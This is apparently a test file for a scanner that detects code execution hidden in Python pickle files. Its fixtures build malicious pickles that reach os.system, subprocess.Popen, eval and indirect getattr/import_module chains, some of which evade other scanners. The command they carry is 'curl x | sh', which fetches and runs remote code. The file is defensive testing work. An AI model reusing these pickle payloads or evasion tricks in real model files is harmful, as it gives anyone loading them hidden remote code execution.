import { describe, expect, it } from "vitest";
import type { FileReport } from "../report/types.js";
import { analyseBytes, importNames, rules, scanBytes } from "./test-helpers/analyse-bytes.js";
import { osSystemP0, osSystemP4 } from "./test-helpers/fixtures.js";
import { type PickleBuilder, pickle } from "./test-helpers/pickle-builder.js";

const CMD = "curl x | sh";

/** The calls of a report as `callable args opcode` lines. */
const callLines = (r: FileReport) => r.calls.map((c) => `${c.callable}${c.args} ${c.opcode} ${c.safety}`);

async function expectOsSystem(bytes: Uint8Array, opcode: string): Promise<FileReport> {
  const r = await scanBytes(bytes);
  expect(r.verdict).toBe("dangerous");
  expect(r.imports.map((i) => `${i.module}.${i.name} ${i.safety}`)).toContain("os.system dangerous");
  expect(callLines(r)).toContain(`os.system('${CMD}',) ${opcode} dangerous`);
  // The finding a reviewer reads names the call it feeds.
  expect(r.findings.map((f) => f.message).join("\n")).toContain(`os.system('${CMD}',)`);
  return r;
}

describe("how a callable is reached", () => {
  it("GLOBAL then REDUCE (protocol 0)", async () => {
    await expectOsSystem(osSystemP0(CMD), "REDUCE");
  });

  it("STACK_GLOBAL then REDUCE (protocol 4)", async () => {
    await expectOsSystem(osSystemP4(CMD), "REDUCE");
  });

  const stringOps: [string, (b: PickleBuilder, s: string) => unknown][] = [
    ["SHORT_BINUNICODE", (b, s) => b.shortBinunicode(s)],
    ["BINUNICODE", (b, s) => b.binunicode(s)],
    ["BINUNICODE8", (b, s) => b.binunicode8(s)],
    ["UNICODE", (b, s) => b.unicode(s)],
    ["STRING", (b, s) => b.string(`'${s}'`)],
    ["BINSTRING", (b, s) => b.binstring(s)],
    ["SHORT_BINSTRING", (b, s) => b.shortBinstring(s)],
  ];
  it.each(stringOps)("STACK_GLOBAL with operands from %s", async (_name, write) => {
    const b = pickle().proto(4);
    write(b, "os");
    write(b, "system");
    b.stackGlobal().mark().str(CMD).tuple().reduce().stop();
    await expectOsSystem(b.bytes(), "REDUCE");
  });

  it("STACK_GLOBAL with operands from the memo (BINGET, LONG_BINGET, GET)", async () => {
    const b = pickle().proto(4).str("os").binput(7).pop().str("system").longBinput(70000).pop();
    b.str("posix").put(9).pop();
    b.binget(7).longBinget(70000).stackGlobal().mark().str(CMD).tuple().reduce().pop();
    b.get(9).longBinget(70000).stackGlobal().pop().none().stop();
    const r = await expectOsSystem(b.bytes(), "REDUCE");
    expect(r.imports.map((i) => `${i.module}.${i.name}`)).toEqual(["os.system", "posix.system"]);
  });

  it("is not fooled by MEMOIZE and BINPUT mixed to disguise the memo (picklescan memo confusion)", async () => {
    // memo[0]='os', memo[1]='system' by BINPUT; MEMOIZE then stores at 2 and 3, not at 0 and 1.
    const b = pickle().proto(4).binstring("os").binput(0).binstring("system").binput(1);
    b.binstring("torch._utils").memoize().binstring("_rebuild_tensor_v2").memoize();
    b.binget(0).binget(1).stackGlobal().mark().str(CMD).tuple().reduce().stop();
    const r = await expectOsSystem(b.bytes(), "REDUCE");
    expect(r.imports.map((i) => `${i.module}.${i.name}`)).toEqual(["os.system"]);
  });

  it("INST calls the class with the items above the mark", async () => {
    await expectOsSystem(pickle().mark().string(`'${CMD}'`).inst("os", "system").stop().bytes(), "INST");
  });

  it("OBJ calls the first item above the mark with the rest", async () => {
    const b = pickle().mark().global("os", "system").string(`'${CMD}'`).obj().stop();
    await expectOsSystem(b.bytes(), "OBJ");
  });

  it("NEWOBJ and NEWOBJ_EX call cls.__new__ with the arguments", async () => {
    const n = pickle().proto(2).global("os", "system").str(CMD).tuple1().newobj().stop();
    await expectOsSystem(n.bytes(), "NEWOBJ");
    const x = pickle().proto(4).global("os", "system").str(CMD).tuple1().emptyDict().newobjEx().stop();
    await expectOsSystem(x.bytes(), "NEWOBJ_EX");
  });

  it("BUILD calls __setstate__ of an instance and flags state set on an imported object", async () => {
    const inst = pickle().proto(2).global("mylib", "Config").emptyTuple().newobj();
    inst.emptyDict().str("path").str("/etc").setitem().build().stop();
    const r = await scanBytes(inst.bytes());
    expect(callLines(r)).toContain("mylib.Config().__setstate__({'path': '/etc'}) BUILD suspicious");
    expect(r.verdict).toBe("suspicious");

    // modelscan #330: numpy.size gets attributes set through BUILD, then is called with 'eval'.
    const b = pickle().proto(4).str("numpy").str("size").stackGlobal().memoize();
    b.str("numpy").str("__builtins__").stackGlobal().memoize();
    b.binget(0).emptyDict().emptyDict().str("shape").binget(1).setitem().tuple2().build();
    b.binget(0).binget(0).str("eval").tuple2().reduce().str("__import__('os').system('id')").tuple1();
    b.reduce().stop();
    const a = await scanBytes(b.bytes());
    expect(a.verdict).toBe("dangerous");
    expect(rules(a.findings)).toContain("pickle/build-on-import");
    expect(a.imports.find((i) => i.name === "__builtins__")?.safety).toBe("dangerous");
  });

  it("EXT codes import through copyreg's registry: suspicious alone, dangerous with add_extension", async () => {
    const alone = await scanBytes(pickle().proto(2).ext1(1).str(CMD).tuple1().reduce().stop().bytes());
    expect(alone.verdict).toBe("suspicious");
    expect(rules(alone.findings)).toContain("pickle/extension-code");

    const b = pickle().proto(2).global("copyreg", "add_extension").str("os").str("system").binint1(1);
    b.tuple3().reduce().pop().ext1(1).str(CMD).tuple1().reduce().stop();
    const r = await scanBytes(b.bytes());
    expect(r.verdict).toBe("dangerous");
    expect(callLines(r)).toContain("copyreg.add_extension('os', 'system', 1) REDUCE dangerous");
    expect(callLines(r)).toContain(`copyreg._extension_registry.1('${CMD}',) REDUCE suspicious`);
  });

  it("EXT2 and EXT4 are followed like EXT1", async () => {
    for (const b of [pickle().proto(2).ext2(300), pickle().proto(2).ext4(70000)]) {
      const r = await scanBytes(b.tuple1().stop().bytes());
      expect(r.verdict).toBe("suspicious");
    }
  });

  it("PERSID and BINPERSID: imports inside a persistent id are classified", async () => {
    const b = pickle().proto(2).global("os", "system").str(CMD).tuple2().binpersid().stop();
    const r = await scanBytes(b.bytes());
    expect(r.verdict).toBe("dangerous");
    const p = await analyseBytes(pickle().persid("storage 0").stop().bytes());
    expect(p).toMatchObject({ complete: true, issues: [], imports: [] });
  });

  it("flags a call of a computed value and shows what computed it", async () => {
    // getattr(importlib.import_module('os'), 'system')('curl x | sh')
    const b = pickle().proto(4).str("builtins").str("getattr").stackGlobal();
    b.str("importlib").str("import_module").stackGlobal().str("os").tuple1().reduce();
    b.str("system").tuple2().reduce().str(CMD).tuple1().reduce().stop();
    const r = await scanBytes(b.bytes());
    expect(r.verdict).toBe("dangerous");
    expect(rules(r.findings)).toContain("pickle/indirect-call");
    expect(callLines(r)).toContain(
      `builtins.getattr(importlib.import_module('os',), 'system')('${CMD}',) REDUCE suspicious`,
    );
  });

  it("a flood of harmless findings does not crowd out a dangerous one", async () => {
    const b = pickle().proto(4).none();
    for (let i = 0; i < 2000; i++) b.dup().emptyTuple().reduce().pop();
    b.pop().str("builtins").str("str").stackGlobal().emptyTuple().reduce().str("x").stackGlobal().stop();
    const r = await scanBytes(b.bytes());
    expect(r.verdict).toBe("dangerous");
    expect(rules(r.findings)).toContain("pickle/unresolved-global");
    expect(r.findings.filter((f) => f.rule === "pickle/indirect-call")).toHaveLength(100);
  });

  it("flags STACK_GLOBAL on a name computed at load time (modelscan #331)", async () => {
    // import_module(''.join(['o', 's'])): the module name exists only when loading.
    const b = pickle().proto(4).str("builtins").str("str").stackGlobal().memoize().pop();
    b.str("").emptyList().mark().str("o").str("s").appends().tuple2().pop();
    b.str("builtins").str("getattr").stackGlobal().binget(0).str("join").tuple2().reduce();
    b.str("").emptyList().mark().str("o").str("s").appends().tuple2().reduce();
    b.str("system").stackGlobal().stop();
    const r = await scanBytes(b.bytes());
    expect(r.verdict).toBe("dangerous");
    expect(rules(r.findings)).toContain("pickle/unresolved-global");
  });

  it("stops at STACK_GLOBAL with an operand that cannot be a str (number, None, container)", async () => {
    for (const operand of [
      (b: PickleBuilder) => b.binint1(1),
      (b: PickleBuilder) => b.none(),
      (b: PickleBuilder) => b.emptyTuple(),
      (b: PickleBuilder) => b.binfloat(1),
    ]) {
      const b = pickle().proto(4).str("os");
      operand(b);
      const a = await analyseBytes(b.stackGlobal().stop().bytes());
      expect(rules(a.issues)).toEqual(["pickle/stack-global-not-str"]);
    }
    // An imported object may well be a str at load time (os.sep is one): that is not known here.
    const g = await analyseBytes(
      pickle().proto(4).global("m", "NAME").str("system").stackGlobal().stop().bytes(),
    );
    expect(rules(g.issues)).toEqual(["pickle/unresolved-global"]);
  });

  it("stops at STACK_GLOBAL with a bytes operand, as the loader does", async () => {
    const a = await analyseBytes(
      pickle().proto(4).shortBinbytes([0x6f, 0x73]).str("system").stackGlobal().stop().bytes(),
    );
    expect(rules(a.issues)).toEqual(["pickle/stack-global-not-str"]);
    expect(a.complete).toBe(false);
  });
});

describe("argument summaries", () => {
  it("shows nested calls and containers in Python syntax", async () => {
    const b = pickle().proto(2).global("subprocess", "Popen").emptyList().mark().str("sh").str("-c").str(CMD);
    b.appends().emptyDict().str("shell").newTrue().setitem().tuple2().reduce().stop();
    const r = await scanBytes(b.bytes());
    expect(callLines(r)).toEqual([
      `subprocess.Popen(['sh', '-c', '${CMD}'], {'shell': True}) REDUCE dangerous`,
    ]);
  });

  it("shortens long strings and escapes control characters", async () => {
    const long = `${"A".repeat(300)}\n`;
    const r = await scanBytes(pickle().proto(2).callGlobal("os", "system", long, "a'b\t").stop().bytes());
    const args = r.calls[0]?.args ?? "";
    expect(args.length).toBeLessThan(260);
    expect(args).toContain("AAA…");
    expect(args).toContain("'a\\'b\\t'");
  });

  it("records each distinct import once with its count", async () => {
    const b = pickle().proto(2);
    for (let i = 0; i < 3; i++) b.callGlobal("os", "system", `echo ${i}`).pop();
    const r = await scanBytes(b.none().stop().bytes());
    expect(r.imports).toMatchObject([{ module: "os", name: "system", count: 3, safety: "dangerous" }]);
    expect(callLines(r)).toHaveLength(3);
    expect(importNames(await analyseBytes(b.bytes()))).toContain("os.system");
  });
});

describe("Python 2 and dotted names", () => {
  const cases: [string, string, string][] = [
    ["__builtin__", "eval", "Python 2 builtins.eval"],
    ["commands", "getoutput", "Python 2 subprocess.getoutput"],
    ["copy_reg", "add_extension", "Python 2 copyreg.add_extension"],
    ["torch", "os.system", "attribute walk torch.os.system"],
    ["pathlib", "os.system", "attribute walk pathlib.os.system"],
    ["builtins", "getattr.__self__", "dunder walk builtins.getattr.__self__"],
    ["torch.nn.modules.module", "torch.hub.load", "attribute walk to torch.hub"],
  ];
  it.each(cases)("%s.%s is dangerous (%s)", async (module, name) => {
    for (const proto of [0, 2, 4]) {
      const b = proto === 0 ? pickle() : pickle().proto(proto);
      if (proto === 4) b.str(module).str(name).stackGlobal();
      else b.global(module, name);
      b.str(CMD).tuple1().reduce().stop();
      const r = await scanBytes(b.bytes());
      expect(r.verdict).toBe("dangerous");
      expect(r.imports[0]).toMatchObject({ module, name, safety: "dangerous" });
    }
  });
});
